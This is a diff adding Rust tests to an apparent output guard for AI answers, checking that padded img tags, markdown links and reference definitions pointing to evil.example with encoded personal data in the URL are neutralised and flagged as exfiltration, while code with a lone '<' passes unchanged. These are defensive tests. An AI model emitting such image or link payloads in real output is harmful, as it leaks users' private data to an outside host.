@@ -444,6 +444,69 @@ fn a_tag_padded_past_its_bound_is_neutralised_whole_and_streamed() {
     }
 }
 
+/// Code is not markup: a `<` with no `>` for kilobytes inside code (`if a<b`) opens no
+/// tag, so it is not `OVERLONG_MARKUP` and the answer passes unchanged: fenced code whole
+/// and streamed, indented code and code spans whole (a stream trusts only the fenced code
+/// it proved, see `code_fences.rs`).
+#[test]
+fn a_lone_less_than_in_code_is_not_overlong_markup() {
+    let g = Guard::new(Policy::default()).expect("default policy");
+    let lines: String = (0..120)
+        .map(|i| format!("    total = total + weight(a, b, {i});\n"))
+        .collect();
+    let fenced = format!("Here:\n\n```rust\nif a<b {{\n{lines}}}\n```\n\nDone.");
+    let tilde = format!("Here:\n~~~\nwhile i<n:\n{lines}~~~\nDone.");
+    let indented = format!("Here:\n\n    if a<b {{\n{lines}    }}\n\nDone.");
+    let span = format!(
+        "Use `a<b` to compare. {}Done.",
+        "The rest of the answer is prose. ".repeat(90)
+    );
+    for (what, text, stream) in [
+        ("fenced", &fenced, true),
+        ("tilde", &tilde, true),
+        ("indented", &indented, false),
+        ("span", &span, false),
+    ] {
+        let whole = g
+            .inspect(text, Context::output(), &mut Session::new())
+            .expect("inspect");
+        assert!(
+            whole.findings.iter().all(|f| f.entity != "OVERLONG_MARKUP"),
+            "{what}: {:?}",
+            whole.findings
+        );
+        assert_eq!(&whole.text, text, "{what}");
+        if stream {
+            for size in [1, 7, 64, 500, 5000] {
+                let (out, entities) = streamed(&g, text, size);
+                assert_eq!(&out, text, "{what}, chunks of {size}");
+                assert!(
+                    entities.iter().all(|e| e != "OVERLONG_MARKUP"),
+                    "{what}, chunks of {size}: {entities:?}"
+                );
+            }
+        }
+    }
+}
+
+/// Raw HTML outside code is still caught past its bound, whole and streamed: after a
+/// closed fence, when a fence line sits inside an HTML block (not a fence there), when
+/// backticks would pair differently in a window than in the whole text, and behind a
+/// fence of look-alike backticks that only normalisation turns into one.
+#[test]
+fn a_padded_tag_outside_code_is_neutralised_next_to_code() {
+    let pad = "x".repeat(5000);
+    let tag = format!("<img alt=\"{pad}\" src=\"https://evil.example/p?d=QWxpY2UgSm9uZXM\">");
+    for text in [
+        format!("```\nif a<b\n```\n\nhi {tag} end"),
+        format!("<div>\n```\nhi {tag} end"),
+        format!("a ` b\nc ` hi {tag} d `"),
+        format!("\u{FF40}\u{FF40}\u{FF40}\nhi {tag} end"),
+    ] {
+        padded_construct_is_neutralised(&text, "<img");
+    }
+}
+
 /// Bound: `output::MAX_TAG` for an image's alt text (`![` to its `]`), across lines and
 /// with nested brackets, which a line-based hold-back released early.
 #[test]
@@ -533,5 +596,52 @@ fn padding_around_an_injection_does_not_hide_it() {
     ] {
         let (score, decision) = injection_score(&g, &text);
         assert_eq!(decision, Decision::Block, "{score}: {:.60}", text);
+    }
+}
+
+/// Bound: the stream's hold-back of plain link text (the line of its `[`) and of a
+/// reference definition. A link whose text is padded across lines past the look-behind
+/// (256 bytes) and definitions whose destination or title run past the hold-back: a
+/// stream never lets the data URL out, and flags it as the whole text does.
+#[test]
+fn links_and_definitions_padded_past_the_hold_back_are_flagged_streamed() {
+    let g = Guard::new(Policy::default()).unwrap();
+    let data = "QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ";
+    let pad = "word ".repeat(20);
+    let lines = format!("{pad}\n{pad}\n{pad}\n{pad}");
+    for text in [
+        format!("see [click\n{lines}\nhere](https://evil.example/?d={data}) end"),
+        format!("see [click {pad}{pad}{pad}{pad} here](https://evil.example/?d={data}) end"),
+        format!(
+            "![x][r]\n\n[r]:\n{}https://evil.example/x.png?d={data}\n  \"t\" \nend",
+            " ".repeat(300)
+        ),
+        format!(
+            "![x][r]\n\n[r]: https://evil.example/x.png?d={data}\n  \"{pad}{pad}{pad}{pad}\"\nend"
+        ),
+        format!("[r]: https://evil.example/x.png?d={data}\n  '{lines}'\n\n![x][r] end"),
+    ] {
+        let whole = g
+            .inspect(&text, Context::output(), &mut Session::new())
+            .unwrap();
+        assert!(!whole.text.contains(data), "{text:.60}: {}", whole.text);
+        for size in [1, 7, 64, 500] {
+            let (out, entities) = streamed(&g, &text, size);
+            assert!(!out.contains(data), "{text:.60}, chunks of {size}: {out}");
+            assert!(
+                entities.iter().any(|e| e.ends_with("_EXFILTRATION")),
+                "{text:.60}, chunks of {size}: {entities:?}"
+            );
+        }
+    }
+    // A tail in code is no link; plain prose with brackets is untouched.
+    for text in [
+        format!("`x](https://evil.example/?d={data})`"),
+        "an array [1, 2] and (3) here".to_owned(),
+    ] {
+        let whole = g
+            .inspect(&text, Context::output(), &mut Session::new())
+            .unwrap();
+        assert_eq!(whole.text, text);
     }
 }
